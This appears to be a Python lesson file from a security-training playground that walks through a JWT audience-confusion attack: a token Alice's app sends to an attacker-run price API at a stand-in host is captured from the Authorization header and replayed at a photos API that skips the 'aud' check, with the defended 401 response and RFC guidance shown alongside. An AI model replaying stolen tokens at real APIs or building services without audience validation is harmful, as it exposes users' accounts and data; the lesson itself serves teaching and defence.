"""A token meant for another API, replayed at the photos API (audience check)."""

from playground import Lesson, jwt_forge

ALICE = "u-1001"
QUOTES_API = "https://quotes.attacker.test"
AUDIENCE_CHECK = "InvalidAudienceError: Audience doesn't match"

lesson = Lesson(
    "Token for another API: audience not checked",
    level="advanced",
    kind="attack",
    weakness="rs.skip_audience_check",
    summary=(
        "Photo Uploader shows print prices from QuickQuote, a third-party "
        "API that Mallory runs. The authorization server issues Alice's app a "
        "token for QuickQuote, and the app sends it there, as it should. "
        "Mallory replays it at the photos API; an API that does not check "
        "`aud` takes a token that was never meant for it."
    ),
    defence="""
- **Check the audience.** RFC 9068 4: the resource server MUST check that
  `aud` names it, and reject the token otherwise; RFC 8725 3.9 asks the same
  of every JWT. PyJWT does it when given `audience=` and raises
  `InvalidAudienceError`.
- **Issue audience-restricted tokens.** RFC 9700 2.3 and 4.10.2: each access
  token should be good at one resource server only, so an API that sees a
  token (honest or not, RFC 9700 4.9) cannot spend it elsewhere. Clients
  name the API they want with resource indicators (RFC 8707).
- **One signing key, many APIs, is fine** only when every API checks `aud`:
  the signature proves who *issued* the token, not whom it was *for*
  (RFC 8725 2.7, substitution attacks; 3.9, use and validate audience).
- Refuse with `401 invalid_token` (RFC 6750 3.1), as the defended run shows.
""",
)


@lesson.step("The authorization server issues Alice's app a token for QuickQuote")
def token_for_quotes(run):
    """
    Alice signs in to **Photo Uploader**, the desktop app of lesson 03b
    (code and PKCE through her browser). Besides its token for the photos
    API, the app needs one for **QuickQuote** (`quotes.attacker.test`), the
    third-party price API that Mallory runs.

    Our authorization server only issues tokens for the photos API (it does
    not support resource indicators, RFC 8707), so this step plays the
    authorization server's part: it takes Alice's real token, sets
    `aud` to QuickQuote, gives it a fresh `jti`, and signs it with **the
    authorization server's own key**. That is the token a server with
    several APIs would really issue: Mallory gets it legitimately, no
    forgery involved.

    The JWT panel shows both tokens: they differ only in `aud` and `jti`,
    and both signatures are the authorization server's. The panel judges
    tokens the way the photos API should, so it already flags the second
    one: `InvalidAudienceError`, it is not for `https://api.photos.test`.
    """
    response = run.code_flow(run.native_app, run.browser, "alice", "wonderland")
    photos_token = response.json().get("access_token", "")
    claims = run.decode(photos_token).claims
    quotes_claims = {**claims, "aud": QUOTES_API, "jti": run.world.randomness.token(16)}
    run.quotes_token = jwt_forge.sign(
        quotes_claims, run.world.keys.authorization_server
    )
    shown = run.show_jwt(run.quotes_token, "Alice's token for QuickQuote (aud)")
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check(
        "the QuickQuote token is Alice's (sub u-1001), with aud = QuickQuote",
        shown.claims.get("sub") == ALICE and shown.claims.get("aud") == QUOTES_API,
    )
    run.check(
        "the signature is good; the decoder flags only the audience "
        "(InvalidAudienceError)",
        shown.verification.exception == "InvalidAudienceError",
    )


@lesson.step("Alice's app calls QuickQuote, and Mallory keeps the token")
def call_quotes(run):
    """
    The app asks QuickQuote for a price with `Authorization: Bearer` and the
    QuickQuote token, exactly as RFC 6750 2.1 says. Read the request: it goes
    from the **client** to the **attacker's** host.

    QuickQuote answers with a price, as any price API would. A resource
    server sees every token sent to it; that is how it works (RFC 9700 4.9).
    Mallory's server simply logs the `Authorization` header too.
    """
    response = run.native_app.http.get(
        f"{QUOTES_API}/api/quote?prints=12",
        headers={"Authorization": f"Bearer {run.quotes_token}"},
    )
    # Mallory's server log: the Authorization header of that request.
    received = run.last_request.header("Authorization") or ""
    run.stolen_token = received.removeprefix("Bearer ")
    run.check(
        "QuickQuote answers with a price (200)",
        response.status_code == 200 and "price" in response.json(),
    )
    run.check(
        "Mallory's server now holds Alice's QuickQuote token",
        run.stolen_token == run.quotes_token,
    )


@lesson.step("Mallory replays it at the photos API")
def replay(run):
    """
    Mallory sends the QuickQuote token to the **photos API**. Read the
    response.

    **Weakness on** (`rs.skip_audience_check`): the signature is the
    authorization server's, the issuer is right, the token has not expired;
    the API never looks at `aud`. **200**, Alice's profile.

    **Defended**: **401** `invalid_token`, `error_description`
    `InvalidAudienceError: Audience doesn't match`. The API passed its own
    URL, `https://api.photos.test`, to PyJWT as the expected audience;
    the token says QuickQuote.
    """
    run.present_to_api(run.stolen_token, refused_because=AUDIENCE_CHECK)


@lesson.step("And Alice's photos")
def photos(run):
    """
    Mallory asks for `/api/photos` with the same token.

    **Weakness on**: Alice's photos, and the server event
    `access_token.accepted` for user `u-1001`. Every API that shares this
    issuer and skips the audience check is open to every other API that
    ever receives one of its users' tokens.

    **Defended**: 401 again, and `access_token.rejected` with the reason.
    """
    run.present_to_api(
        run.stolen_token, "/api/photos", refused_because=AUDIENCE_CHECK, audit=True
    )
